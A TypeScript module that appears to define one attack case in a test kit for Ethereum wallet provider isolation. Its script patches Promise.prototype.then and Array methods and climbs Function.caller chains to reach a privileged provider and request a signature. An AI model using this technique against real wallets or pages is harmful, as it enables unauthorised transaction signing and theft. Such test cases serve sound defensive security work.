import type { Attack } from './kit/attack.ts'

export default {
  family: 'global',
  how: "Walks up the functions that called it, by Function's caller and arguments, to those that hold the provider.",
  script: `
    const use = (value) => { try { if (typeof value?.request === 'function') value.request(attack.sign) } catch {} }
    function climb(from) {
      let each = from
      for (let i = 0; i < 30 && typeof each === 'function'; i++) {
        try { for (const one of each.arguments ?? []) { use(one); use(one?.raw); use(one?.provider?.raw) } } catch {}
        try { each = each.caller } catch { return }
      }
    }
    const then = Promise.prototype.then
    Promise.prototype.then = function patchedThen(...args) { climb(patchedThen); return then.apply(this, args) }
    for (const name of ['push', 'slice', 'forEach', 'map']) {
      const original = Array.prototype[name]
      Array.prototype[name] = function patched(...args) { climb(patched); return original.apply(this, args) }
    }
    ethereum.request({ get method() { climb(Object.getOwnPropertyDescriptor(this, 'method').get); return 'eth_chainId' } })
    ethereum.sendAsync({ id: 1, method: 'eth_chainId' }, function back() { climb(back) })
    ethereum.on('message', function heard() { climb(heard) })
    ethereum.request(attack.sign)
    await attack.sleep(300)
  `,
} satisfies Attack
